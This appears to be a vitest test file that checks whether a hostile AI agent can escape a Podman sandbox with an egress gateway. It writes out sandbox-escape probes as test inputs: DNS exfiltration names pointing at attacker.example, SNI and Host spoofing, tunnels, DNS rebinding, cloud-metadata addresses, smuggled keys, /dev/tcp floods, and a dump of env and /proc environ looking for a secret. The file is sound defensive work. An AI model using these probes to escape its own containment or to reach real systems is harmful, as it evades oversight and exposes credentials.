/*
 * What a hostile agent in a whole bottle (Podman, gateway, gate closed) tries to get out of it. Each attack has a positive control:
 * the same program with the one thing changed that the defence looks at, so a refusal is never the failure of the probe.
 */

import { existsSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type Bottle, HOST_LOOPBACK_NAME, type Route } from '../../src/core/index.ts';
import { Secret, Vault } from '../../src/vault/index.ts';
import { freshSlug } from '../conformance/describe-backend.ts';
import type { BackendUnderTest } from '../conformance/support/case.ts';
import { lanAddress } from '../conformance/support/host.ts';
import { sh, shOutput, waitUntil } from '../conformance/support/in-bottle.ts';
import { openPodmanFixture } from '../support/podman-fixture.ts';

const REAL_KEY = 'sk-real-key-of-the-red-team-test';
const LOOPBACK = ['127.0.0.0/8', '::1/128'];
const PROXY = ['-x', 'http://198.18.0.1:3128', '--noproxy', ''];

let fixture: BackendUnderTest | { readonly unavailable: string };
let bottle: Bottle;
let phantoms: { readonly own: string; readonly other: string };
let ports: { readonly api: number; readonly closed: number };
const seen: IncomingMessage[] = [];
const servers = [createServer(answer), createServer(answer)];

function answer(request: IncomingMessage, response: ServerResponse): void {
  seen.push(request);
  const [, location] = /^\/v1\/to\?(.*)$/.exec(request.url ?? '') ?? [];
  if (location === undefined) response.end('welcome');
  else response.writeHead(302, { location }).end();
}

beforeAll(async () => {
  fixture = await openPodmanFixture({ freshSlug });
  if ('unavailable' in fixture) return;
  await Promise.all(servers.map((server) => new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))));
  const [api = 0, closed = 0] = servers.map((server) => (server.address() as AddressInfo).port);
  ports = { api, closed };
  phantoms = { own: `phantom-${freshSlug()}-own`, other: `phantom-${freshSlug()}-other` };
  await new Vault(path.join(fixture.directories[0] ?? '', 'dat', 'secrets')).set('key', new Secret(REAL_KEY));
  bottle = await launch(fixture, phantoms.own);
});
beforeEach((context) => {
  if ('unavailable' in fixture) context.skip(fixture.unavailable);
  seen.length = 0;
});
afterAll(async () => {
  for (const server of servers) server.close();
  if (!('unavailable' in fixture)) await fixture.cleanup();
});

/** The host's loopback stands for every server that a bottle may want. */
async function launch(under: BackendUnderTest, phantom: string): Promise<Bottle> {
  const inspected = { mode: 'inspect', plainUpstream: true } as const;
  const routes: Route[] = [
    {
      name: 'api',
      hosts: [HOST_LOOPBACK_NAME],
      ports: [ports.api],
      ...inspected,
      paths: ['/v1'],
      privateNetworks: ['127.0.0.1/32'],
      inject: { secret: 'key', header: 'authorization', prefix: 'Bearer ', phantom },
    },
    { name: 'rebound', hosts: ['localhost'], ports: [ports.api], ...inspected },
    { name: 'meant', hosts: ['localhost'], ports: [ports.closed], ...inspected, privateNetworks: LOOPBACK },
  ];
  const made = await under.launch({ egress: { version: 1, routes } });
  const ca = readFileSync(path.join(made.plan.stateDir, 'ca/certificate.pem'));
  await shOutput(made, 'cat >/tmp/ca.pem', [], { input: ca });
  return made;
}

interface Answer {
  readonly exitCode: number;
  readonly status: number;
  readonly text: string;
}

async function curl(from: Bottle, url: string, ...args: string[]): Promise<Answer> {
  const argv = ['curl', '-sS', '-i', '--max-time', '10', '--cacert', '/tmp/ca.pem', '-w', '\n%{http_code} %{http_connect}', ...args, url];
  const { status, stdout, stderr } = await from.exec(argv, { timeoutMs: 20_000 });
  const [, code = '0', connect = '0'] = /\n(\d+) (\d+)$/.exec(stdout.toString()) ?? [];
  const exitCode = status.kind === 'exited' ? status.code : -1;
  return { exitCode, status: Number(code) || Number(connect), text: stdout.toString() + stderr.toString() };
}

const url = (rest = '/v1/x', scheme = 'https'): string => `${scheme}://${HOST_LOOPBACK_NAME}:${ports.api}${rest}`;
const bearer = (token: string): string[] => ['-H', `authorization: Bearer ${token}`];
const own = (): string[] => bearer(phantoms.own);

function audit(): Record<string, unknown>[] {
  const file = path.join(bottle.plan.stateDir, 'audit.jsonl');
  const lines = existsSync(file) ? readFileSync(file, 'utf8').split('\n').slice(0, -1) : [];
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>);
}

const denied = (reason: string): boolean => audit().some((line) => line.decision === 'deny' && line.reason === reason);

describe('a hostile agent', () => {
  test('gets nothing by raw address, while the host itself does', async () => {
    for (const address of ['127.0.0.1', lanAddress() ?? '127.0.0.5', '169.254.169.254', '1.1.1.1'])
      expect((await curl(bottle, `http://${address}:${ports.api}/v1/x`)).exitCode).toBeOneOf([7, 56]);
    expect(await (await fetch(`http://127.0.0.1:${ports.api}/v1/x`)).text()).toBe('welcome');
    expect(seen).toHaveLength(1);
  });

  test('carries nothing out in names', async () => {
    expect(await shOutput(bottle, 'getent ahostsv4 "$0"', [HOST_LOOPBACK_NAME])).toMatch(/^198\.1[89]\./);
    for (const name of [`c2VjcmV0.${HOST_LOOPBACK_NAME}`, 'c2VjcmV0.attacker.example', `${'x'.repeat(63)}.attacker.example`])
      expect((await sh(bottle, 'getent ahostsv4 "$0"', [name])).stdout.toString()).toBe('');
    await waitUntil(
      () => audit().some(({ kind, target }) => kind === 'dns' && target === 'c2vjcmv0.attacker.example'),
      5_000,
      'the denial',
    );
  });

  test('cannot name another server in TLS', async () => {
    const spoof = ['--connect-to', `other.example:443:${HOST_LOOPBACK_NAME}:${ports.api}`];
    expect((await curl(bottle, 'https://other.example/v1/x', ...spoof, ...own())).exitCode).toBe(35);
    expect(denied('host-mismatch')).toBe(true);
    expect(seen).toHaveLength(0);
    expect((await curl(bottle, url(), '--connect-to', `::${HOST_LOOPBACK_NAME}:${ports.api}`, ...own())).status).toBe(200);
  });

  test('cannot name another server in Host', async () => {
    expect((await curl(bottle, url(), ...own(), '-H', 'host: other.example')).status).toBe(421);
    expect(seen).toHaveLength(0);
    expect((await curl(bottle, url(), ...own(), '-H', `host: ${HOST_LOOPBACK_NAME}:${ports.api}`)).status).toBe(200);
  });

  test('gets no tunnel to another port, name or address', async () => {
    for (const target of [
      `${HOST_LOOPBACK_NAME}:${ports.closed}`,
      `${HOST_LOOPBACK_NAME}:22`,
      `other.example:${ports.api}`,
      `127.0.0.1:${ports.api}`,
    ]) {
      const { status, exitCode } = await curl(bottle, `https://${target}/v1/x`, ...PROXY, ...own());
      expect({ target, exitCode, refused: [400, 403].includes(status) }).toEqual({ target, exitCode: 56, refused: true });
    }
    expect(seen).toHaveLength(0);
    expect((await curl(bottle, url(), ...PROXY, ...own())).status).toBe(200);
  });

  test('reaches no private address through a name that somebody points there', async () => {
    const rebound = await curl(bottle, `http://localhost:${ports.api}/`, ...PROXY);
    expect(rebound.text).toContain('x-terok-refused: address-not-allowed');
    expect(rebound.text).not.toContain('127.0.0.1');
    expect(seen).toHaveLength(0);
    expect((await curl(bottle, `http://localhost:${ports.closed}/`, ...PROXY)).status).toBe(200);
  });

  test('reaches no metadata service, by address or name', async () => {
    const control = await curl(bottle, `http://localhost:${ports.closed}/`, ...PROXY);
    expect(control.status).toBe(200);
    for (const host of ['169.254.169.254', '[fd00:ec2::254]', '2852039166', '0xa9fea9fe', 'metadata.google.internal'])
      expect([400, 403]).toContain((await curl(bottle, `http://${host}:${ports.closed}/`, ...PROXY)).status);
    expect(seen).toHaveLength(1);
  });

  test('gets the real key with its own token alone, not with that of another bottle', async () => {
    if ('unavailable' in fixture) return;
    const other = await launch(fixture, phantoms.other);
    expect((await curl(bottle, url(), ...bearer(phantoms.other))).text).toContain('x-terok-refused: phantom-wrong');
    expect(seen).toHaveLength(0);
    expect((await curl(other, url(), ...bearer(phantoms.other))).status).toBe(200);
    expect((await curl(bottle, url(), ...own())).status).toBe(200);
    expect(seen.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${REAL_KEY}`, `Bearer ${REAL_KEY}`]);
  });

  test('cannot use a key that it brought along', async () => {
    expect((await curl(bottle, url(), ...bearer('sk-key-of-the-attacker'))).text).toContain('x-terok-refused: phantom-wrong');
    expect((await curl(bottle, url())).text).toContain('x-terok-refused: phantom-missing');
    expect(seen).toHaveLength(0);
    const smuggled = ['-H', 'x-api-key: sk-key-of-the-attacker', '-H', 'cookie: session=attacker'];
    expect((await curl(bottle, url('/v1/x?api_key=attacker&page=2'), ...own(), ...smuggled)).status).toBe(200);
    expect(seen[0]?.url).toBe('/v1/x?page=2');
    expect(seen[0]?.headers).toMatchObject({ authorization: `Bearer ${REAL_KEY}` });
    expect(JSON.stringify(seen[0]?.rawHeaders)).not.toContain('attacker');
  });

  test('is led nowhere by a redirect', async () => {
    for (const target of [`http://blocked.example:${ports.api}/`, `http://127.0.0.1:${ports.api}/v1/x`, `/v2/outside`]) {
      const { text, status, exitCode } = await curl(bottle, url(`/v1/to?${target}`), '-L', ...own());
      expect({ target, stopped: exitCode !== 0 || status === 403, welcome: text.includes('welcome') }).toEqual({
        target,
        stopped: true,
        welcome: false,
      });
    }
    expect(seen.every((request) => request.url?.startsWith('/v1/to'))).toBe(true);
    expect((await curl(bottle, url('/v1/to?/v1/inside'), '-L', ...own())).text).toContain('welcome');
  });

  test('can neither take the place of the SSH server nor fill the line to it, while init can', async () => {
    const dial = 'exec 3<>/dev/tcp/198.18.0.1/2022 && { read -r -t 1 -N 1 -u 3 word; (( $? > 128 )) && echo waits || echo cut; }';
    const as = (user: 'agent' | 'root') => bottle.exec(['bash', '-c', dial], { user, timeoutMs: 10_000 });
    expect((await as('root')).stdout.toString().trim()).toBe('waits');
    expect((await as('agent')).stdout.toString().trim()).toBe('cut');
    const flood = `for i in {1..60}; do exec {c}<>/dev/tcp/198.18.0.1/2022; echo 'SSH-2.0-impostor' >&$c; done; sleep 1`;
    await bottle.exec(['bash', '-c', flood], { timeoutMs: 20_000 });
    expect(audit().filter(({ kind, decision }) => kind === 'control' && decision === 'deny').length).toBeGreaterThan(0);
    expect(await shOutput(bottle, 'echo still there')).toBe('still there');
  });

  test('never sees the real key', async () => {
    expect(
      (await sh(bottle, 'env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; cat /etc/terok/* 2>/dev/null')).stdout.toString(),
    ).not.toContain(REAL_KEY);
    expect(JSON.stringify(audit())).not.toContain(REAL_KEY);
  });
});
